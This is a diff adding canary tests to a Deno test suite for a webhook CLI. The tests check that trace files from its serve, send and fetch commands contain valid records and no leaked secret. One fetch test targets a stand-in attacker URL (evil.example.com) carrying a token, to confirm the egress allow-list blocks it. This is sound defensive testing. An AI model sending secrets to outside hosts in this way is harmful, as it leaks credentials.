@@ -98,6 +98,25 @@ function tomorrow(): string {
   return new Date(Date.now() + 86_400_000).toISOString().replace(/\.\d{3}Z$/, "Z");
 }
 
+/** Commands whose --help offers --trace: their trace files are checked line by line. */
+async function tracingCommands(): Promise<Set<string>> {
+  const names = ["serve", "send", "fetch"];
+  const helps = await Promise.all(names.map((name) => runCli([name, "--help"])));
+  return new Set(names.filter((_, i) => helps[i]?.stdout.includes("--trace")));
+}
+
+const TRACING = await tracingCommands();
+
+function traceLines(path: string): Record<string, unknown>[] {
+  const text = Deno.readTextFileSync(path);
+  assertNoCanary(`trace ${path}`, text);
+  return text.split("\n").filter((line) => line !== "").map((line) => {
+    const record = JSON.parse(line);
+    assert.equal(typeof record.time, "string", line);
+    return record;
+  });
+}
+
 function sign(body: string, ts: number, secret: string): string {
   return createHmac("sha256", secret).update(`${ts}.${body}`).digest("hex");
 }
@@ -485,4 +504,65 @@ Deno.test("canary: rotate prints neither the old secret nor the new one", async 
   }
   const bad = await runCli(["rotate", "--var", "NO_SUCH_SECRET"], { cwd });
   assertResultClean("rotate of a missing variable", bad);
+});
+
+Deno.test({
+  name: "canary: serve's trace holds a valid line per request and no canary",
+  ignore: !TRACING.has("serve"),
+  async fn() {
+    const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+    const trace = `${cwd}/serve-trace.jsonl`;
+    const server = await startServe({ env: ENV, cwd, args: ["--trace", trace] });
+    const exchanges = deliveries();
+    try {
+      for (const exchange of exchanges) {
+        const response = await fetch(`${server.url}${exchange.path ?? "/webhook"}`, exchange.init);
+        await response.body?.cancel();
+      }
+    } finally {
+      await server.stop();
+    }
+    const records = traceLines(trace);
+    assert.ok(records.length >= exchanges.length, `${records.length} trace lines`);
+  },
+});
+
+Deno.test({
+  name: "canary: send's trace records each attempt and no canary",
+  ignore: !TRACING.has("send"),
+  async fn() {
+    const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+    const trace = `${cwd}/send-trace.jsonl`;
+    const url = `http://u:${CANARY}@127.0.0.1:${closedPort()}/?token=${CANARY}`;
+    const args = ["send", url, "--data", JSON.stringify({ note: CANARY }), "--retries", "1"];
+    assertResultClean("send", await runCli([...args, "--trace", trace], { env: ENV, cwd }));
+    assert.ok(traceLines(trace).length >= 2, "one line per attempt");
+  },
+});
+
+Deno.test({
+  name: "canary: fetch's trace records a denial and a failure and no canary",
+  ignore: !TRACING.has("fetch"),
+  async fn() {
+    const cwd = await Deno.makeTempDir({ prefix: "hookgate-canary-" });
+    const trace = `${cwd}/fetch-trace.jsonl`;
+    const port = closedPort();
+    const env = {
+      ...ENV,
+      EGRESS_ALLOW_HOSTS: `http://localhost:${port}`,
+      EGRESS_ALLOW_PRIVATE: "localhost",
+    };
+    for (
+      const url of [
+        `https://evil.example.com/?token=${CANARY}`,
+        `http://localhost:${port}/?sig=${CANARY}`,
+      ]
+    ) {
+      assertResultClean(
+        `fetch ${url}`,
+        await runCli(["fetch", url, "--trace", trace], { env, cwd }),
+      );
+    }
+    assert.ok(traceLines(trace).length >= 2, "one line per fetch");
+  },
 });
